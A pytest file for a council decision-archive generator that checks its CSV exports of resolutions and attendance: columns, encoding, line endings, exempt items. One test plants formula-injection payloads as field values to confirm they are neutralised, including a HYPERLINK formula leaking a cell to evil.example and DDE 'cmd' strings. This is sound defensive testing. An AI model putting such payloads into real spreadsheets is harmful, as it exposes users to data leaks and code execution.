"""The decision register and the attendance records as CSV: they open in a spreadsheet with the expected
columns, one row per resolution (or per attendee per meeting) matching the open-data export, Excel
reads them as UTF-8, and no cell can run as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import fixtures_archive as fx

from archive_builder.config import Config
from archive_builder.model import Archive
from archive_builder.render import render_site
from archive_builder.render.spreadsheets import cell

SITE_URL = "https://decisions.example.gov.uk/archive/"
DECISION_COLUMNS = ["Date", "Committee", "Meeting", "Item number", "Minute number", "Item title", "Label", "Decision",
                    "Outcome", "For", "Against", "Abstain", "Mover", "Seconder", "Action statuses", "URL",
                    "Resolution id"]
ATTENDANCE_COLUMNS = ["Date", "Committee", "Meeting", "Name as printed", "Person id", "Status", "Role",
                      "Organisation", "Post", "Note", "URL"]
OUTCOMES = {"carried": "Carried", "lost": "Lost", "deferred": "Deferred", "noted": "Noted",
            "unknown": "Outcome not recorded"}


def render(root: Path, sources: Path, archive: Archive | None = None, site_url: str | None = None) -> dict[str, str]:
    return render_site(archive or fx.sample_archive(), Config(root=root, site_url=site_url), sources).pages


def rows(data: bytes | str) -> list[dict[str, str]]:
    """The rows of a CSV file as a spreadsheet program opening it as UTF-8 reads them."""
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.removeprefix("\ufeff")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader)


def as_text(value) -> str:
    """What the CSV should hold for an exported value: text that could be a formula starts with a quote."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if re.match(r"\s*[=+\-@]|\t", text) else text


def test_the_decision_register_has_a_row_for_every_public_resolution_as_exported(demo_site):
    data = (demo_site.site_dir / "data" / "decisions.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfDate,Committee,")  # the BOM that makes Excel read UTF-8
    assert data.split(b"\r\n", 1)[0].endswith(b",Resolution id") and data.endswith(b"\r\n")  # RFC 4180 CRLF
    found = rows(data)
    assert list(found[0]) == DECISION_COLUMNS
    names = {c["id"]: c["name"] for c in demo_site.export["committees"]}
    expected = [(m, i, r) for m in sorted(demo_site.export["meetings"], key=lambda m: (m["date"], m["id"]))
                for i in m["items"] if not i["exempt"] for r in i["resolutions"]]
    assert len(found) == len(expected) == 36
    for row, (meeting, item, resolution) in zip(found, expected, strict=False):
        votes = resolution["votes"] or {}
        assert row == {
            "Date": meeting["date"], "Committee": names[meeting["committee"]], "Meeting": meeting["id"],
            "Item number": item["number"] or "", "Minute number": item["minute_number"] or "",
            "Item title": as_text(item["title"]), "Label": (resolution["label"] or "").strip().rstrip(".:").strip(),
            "Decision": as_text(resolution["text"]), "Outcome": OUTCOMES[resolution["outcome"]],
            "For": str(votes.get("for", "")), "Against": str(votes.get("against", "")),
            "Abstain": str(votes.get("abstain", "")), "Mover": as_text(resolution["mover"]),
            "Seconder": as_text(resolution["seconder"]),
            "Action statuses": "; ".join(a["status"].replace("-", " ") for a in resolution["actions"]),
            "URL": resolution["url"], "Resolution id": resolution["id"],
        }
    bus = next(row for row in found if row["Resolution id"] == "environment-and-transport/2024-09-12/6/r2a")
    assert "Harbourline Buses" in bus["Decision"] and bus["Item title"] == "Bus Services on Harbour Road"


def test_the_attendance_file_has_a_row_for_every_attendee_of_every_meeting(demo_site):
    found = rows((demo_site.site_dir / "data" / "attendance.csv").read_bytes())
    assert list(found[0]) == ATTENDANCE_COLUMNS
    names = {c["id"]: c["name"] for c in demo_site.export["committees"]}
    expected = [(m, a) for m in sorted(demo_site.export["meetings"], key=lambda m: (m["date"], m["id"]))
                for a in m["attendance"]]
    assert len(found) == len(expected) > 50
    for row, (meeting, attendee) in zip(found, expected, strict=False):
        assert row == {
            "Date": meeting["date"], "Committee": names[meeting["committee"]], "Meeting": meeting["id"],
            "Name as printed": as_text(attendee["name"]), "Person id": attendee["person"] or "",
            "Status": attendee["status"], "Role": attendee["role"], "Organisation": as_text(attendee["organisation"]),
            "Post": as_text(attendee["title"]), "Note": as_text(attendee["note"]), "URL": meeting["url"],
        }
    chair = found[0]
    assert (chair["Date"], chair["Name as printed"], chair["Person id"], chair["Status"], chair["Role"]) == (
        "2024-09-12", "Cllr M Okonkwo", "margaret-okonkwo", "present", "chair")


def test_no_cell_can_become_a_formula(tmp_path, sample_sources):
    archive = fx.sample_archive()
    meeting = archive.meetings[0]
    procured = meeting.items[2].resolutions[1]
    procured.text = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    procured.mover = "+cmd|' /C calc'!A0"
    procured.seconder = "@SUM(1+1)*cmd|' /C calc'!A0"
    meeting.items[2].title = "-2+3"
    meeting.attendance[0].name = "  =1+1"
    meeting.attendance[1].organisation = "\t=1+1"
    pages = render(tmp_path, sample_sources, archive)
    decision = next(r for r in rows(pages["data/decisions.csv"]) if r["Resolution id"].endswith("/6/r2a"))
    assert decision["Decision"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert decision["Mover"] == "'+cmd|' /C calc'!A0"
    assert decision["Seconder"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert decision["Item title"] == "'-2+3"
    assert (decision["For"], decision["Against"], decision["Abstain"]) == ("5", "1", "0")  # numbers stay numbers
    attendance = rows(pages["data/attendance.csv"])
    assert attendance[0]["Name as printed"] == "'  =1+1"  # rows run oldest first: 2018-06-12 has none
    assert attendance[1]["Organisation"] == "'\t=1+1"
    for text in (pages["data/decisions.csv"], pages["data/attendance.csv"]):
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
            for value in row:
                assert not re.match(r"\s*[=+\-@]", value), value


def test_cell_leaves_ordinary_text_and_numbers_alone():
    assert cell("Cllr Anne Smith") == "Cllr Anne Smith"
    assert cell("That the report be noted - with thanks.") == "That the report be noted - with thanks."
    assert cell(0) == 0 and cell(None) == ""
    assert cell("-") == "'-" and cell("+44 1622 000000") == "'+44 1622 000000"


def test_quotes_commas_and_line_breaks_survive_the_round_trip(tmp_path, sample_sources):
    pages = render(tmp_path, sample_sources, site_url=SITE_URL)
    found = rows(pages["data/decisions.csv"])
    hostile = next(r for r in found if r["Resolution id"].endswith("/8/r1"))
    assert hostile["Decision"] == fx.HOSTILE_TEXT  # several lines, pipes, brackets: one cell
    assert hostile["Item title"] == fx.HOSTILE_TITLE and hostile["Mover"] == fx.HOSTILE_NAME
    assert hostile["URL"] == SITE_URL + "meetings/joint-ict/2018-10-16/#item-8-r1"
    assert pages["data/decisions.csv"].count("\r\n") > len(found)  # CRLF ends rows; a cell's own breaks stay


def test_nothing_of_an_exempt_item_is_in_a_spreadsheet(tmp_path, sample_sources):
    pages = render(tmp_path, sample_sources)
    decisions = rows(pages["data/decisions.csv"])
    assert not any(r["Resolution id"].startswith(f"{fx.MEETING}/7/") for r in decisions)
    assert len(decisions) == 7
    for path in ("data/decisions.csv", "data/attendance.csv"):
        assert fx.SECRET not in pages[path] and "Staffing matter" not in pages[path]
